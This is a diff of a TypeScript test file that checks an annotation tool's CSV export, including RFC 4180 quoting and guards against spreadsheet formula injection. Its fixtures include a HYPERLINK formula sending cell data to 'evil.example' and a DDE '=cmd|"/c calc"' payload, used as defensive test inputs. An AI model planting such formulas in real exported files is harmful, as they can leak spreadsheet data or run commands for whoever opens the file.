@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
-import { formulaSafe, toCsv } from '../../source/export/csv.js';
+import { formulaSafe } from '../../source/export/csv.js';
+import type { ExportFilter } from '../../source/export/model.js';
 import { articleOfSentences } from '../helpers/articles.js';
 import {
   asciiArticle,
@@ -10,35 +11,13 @@ import {
   statusTable,
   unicodeArticle,
 } from './fixture.js';
+import { exportText, parseCsv, type StoreContents } from './helpers.js';
 
-/** A small RFC 4180 reader, independent of csv-stringify, to read the output back. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const char = text[i]!;
-    if (quoted) {
-      if (char === '"' && text[i + 1] === '"') {
-        cell += '"';
-        i++;
-      } else if (char === '"') quoted = false;
-      else cell += char;
-    } else if (char === '"') quoted = true;
-    else if (char === ',') {
-      row.push(cell);
-      cell = '';
-    } else if (char === '\r' && text[i + 1] === '\n') {
-      row.push(cell);
-      rows.push(row);
-      row = [];
-      cell = '';
-      i++;
-    } else cell += char;
-  }
-  return rows;
-}
+const toCsv = (
+  input: StoreContents,
+  filter: ExportFilter = {},
+  options: { bom?: boolean; raw?: boolean } = {},
+) => exportText('csv', input, { filter, ...options });
 
 /** Four rows: Unicode offsets, a note with a line break, attributes, an orphan, a formula. */
 function smallInput() {
@@ -65,20 +44,20 @@ const HASH_UNI = unicodeArticle.hash;
 const HASH_PLAIN = asciiArticle.hash;
 
 describe('csv export', () => {
-  it('writes exactly these bytes: header, code point offsets, RFC 4180 quoting, guarded formulas', () => {
-    expect(toCsv(smallInput()).split('\r\n')).toEqual([
-      'id,article,title,source,date,annotator,label,sentence,text,start,end,quote,prefix,suffix,textHash,note,status,created,updated,orphan,attribute:speaker,attribute:when',
-      `q1,uni,Переговоры “soon”,The National,2025-03-14,alice,quote,uni-s0,"“Мы готовы к переговорам 😀”, said the minister.",0,47,,, Talks begin on Friday 🇺🇦 in R,${HASH_UNI},"check the “translation”\nwith the desk",done,2026-01-02T03:04:05.000Z,2026-01-02T03:04:06.000Z,false,"minister, deputy",'-1d`,
-      `e1,uni,Переговоры “soon”,The National,2025-03-14,bob,event,uni-s1,Talks begin on Friday 🇺🇦 in Riyadh.,48,83,,"говорам 😀”, said the minister. ","\n\nPrices rose 5% — a record 😀😀",${HASH_UNI},,unreviewed,2026-01-02T03:04:05.000Z,2026-01-02T03:04:06.000Z,false,,`,
-      `orphan1,uni,Переговоры “soon”,The National,2025-03-14,alice,event,gone,A sentence since cut.,295,315,,before , after,${'f'.repeat(64)},,done,2026-01-01T00:00:00.000Z,2026-01-01T00:00:00.000Z,true,,`,
-      `c1,plain,Plain,Daily,,alice,claim,plain-s0,The mayor said taxes fell.,0,26,,, It rained.,${HASH_PLAIN},"'=HYPERLINK(""http://evil.example/?""&A1,""see"")",unreviewed,2026-01-02T03:04:05.000Z,2026-01-02T03:04:06.000Z,false,,`,
+  it('writes exactly these bytes: header, code point offsets, RFC 4180 quoting, guarded formulas', async () => {
+    expect((await toCsv(smallInput())).split('\r\n')).toEqual([
+      'id,article,title,source,date,annotator,label,sentence,text,start,end,quote,prefix,suffix,textHash,note,status,created,updated,orphan,attribute:claimant,attribute:speaker,attribute:when,attribute:where,attributes',
+      `q1,uni,Переговоры “soon”,The National,2025-03-14,alice,quote,uni-s0,"“Мы готовы к переговорам 😀”, said the minister.",0,47,,, Talks begin on Friday 🇺🇦 in R,${HASH_UNI},"check the “translation”\nwith the desk",done,2026-01-02T03:04:05.000Z,2026-01-02T03:04:06.000Z,false,,"minister, deputy",'-1d,,`,
+      `e1,uni,Переговоры “soon”,The National,2025-03-14,bob,event,uni-s1,Talks begin on Friday 🇺🇦 in Riyadh.,48,83,,"говорам 😀”, said the minister. ","\n\nPrices rose 5% — a record 😀😀",${HASH_UNI},,unreviewed,2026-01-02T03:04:05.000Z,2026-01-02T03:04:06.000Z,false,,,,,`,
+      `orphan1,uni,Переговоры “soon”,The National,2025-03-14,alice,event,gone,A sentence since cut.,295,315,,before , after,${'f'.repeat(64)},,done,2026-01-01T00:00:00.000Z,2026-01-01T00:00:00.000Z,true,,,,,`,
+      `c1,plain,Plain,Daily,,alice,claim,plain-s0,The mayor said taxes fell.,0,26,,, It rained.,${HASH_PLAIN},"'=HYPERLINK(""http://evil.example/?""&A1,""see"")",unreviewed,2026-01-02T03:04:05.000Z,2026-01-02T03:04:06.000Z,false,,,,,`,
       '',
     ]);
   });
 
-  it('reads back with offsets that select the sentence in code points', () => {
+  it('reads back with offsets that select the sentence in code points', async () => {
     const input = sampleInput();
-    const [header, ...rows] = parseCsv(toCsv(input));
+    const [header, ...rows] = parseCsv(await toCsv(input));
     expect(rows).toHaveLength(input.annotations.length);
     const column = (name: string) => header!.indexOf(name);
     const placed = rows.filter((r) => r[column('orphan')] === 'false');
@@ -105,7 +84,7 @@ describe('csv export', () => {
     expect(formulaSafe(value)).toBe(expected);
   });
 
-  it('guards every text column (sentence, title, note, attributes), and --raw leaves them alone', () => {
+  it('guards every text column (sentence, title, note, attributes), and --raw leaves them alone', async () => {
     const article = articleOfSentences(
       'evil',
       [['=cmd|"/c calc"!A1 is what the page said.', 'Fine.']],
@@ -125,7 +104,7 @@ describe('csv export', () => {
       ],
       statuses: statusTable({}),
     };
-    const [header, row] = parseCsv(toCsv(input));
+    const [header, row] = parseCsv(await toCsv(input));
     const get = (name: string) => row![header!.indexOf(name)];
     expect(get('text')).toBe('\'=cmd|"/c calc"!A1 is what the page said.');
     expect(get('title')).toBe("'@title");
@@ -134,25 +113,28 @@ describe('csv export', () => {
     expect(get('attribute:speaker')).toBe("'=speaker");
     expect(get('suffix')).toBe(' Fine.');
 
-    const [rawHeader, raw] = parseCsv(toCsv(input, {}, { raw: true }));
+    const [rawHeader, raw] = parseCsv(await toCsv(input, {}, { raw: true }));
     const rawGet = (name: string) => raw![rawHeader!.indexOf(name)];
     expect(rawGet('text')).toBe('=cmd|"/c calc"!A1 is what the page said.');
     expect(rawGet('note')).toBe('-note');
     expect(rawGet('attribute:speaker')).toBe('=speaker');
   });
 
-  it('quotes commas, quotes and line breaks per RFC 4180', () => {
-    const text = toCsv(sampleInput(), { annotators: ['alice'], labels: ['quote'] });
+  it('quotes commas, quotes and line breaks per RFC 4180', async () => {
+    const text = await toCsv(sampleInput(), { annotators: ['alice'], labels: ['quote'] });
     const line = text.split('\r\n')[1]!;
     expect(line).toContain('"“Мы готовы к переговорам 😀”, said the minister."');
     expect(text).toContain('"check the “translation”\nwith the desk"');
-    expect(text).toContain(',minister,needs context\r\n');
+    // An attribute the labels do not declare goes in `attributes`, as JSON.
+    expect(text).toContain(',,minister,,,"{""verdict"":""needs context""}"\r\n');
     const row = parseCsv(text)[1]!;
     expect(row[8]).toBe(unicodeArticle.sentences[0]!.text);
   });
 
-  it('starts with a byte order mark only when asked', () => {
-    expect(toCsv(sampleInput(), {}, { bom: true }).startsWith('\uFEFFid,article,')).toBe(true);
-    expect(toCsv(sampleInput()).startsWith('id,article,')).toBe(true);
+  it('starts with a byte order mark only when asked', async () => {
+    expect((await toCsv(sampleInput(), {}, { bom: true })).startsWith('\uFEFFid,article,')).toBe(
+      true,
+    );
+    expect((await toCsv(sampleInput())).startsWith('id,article,')).toBe(true);
   });
 });
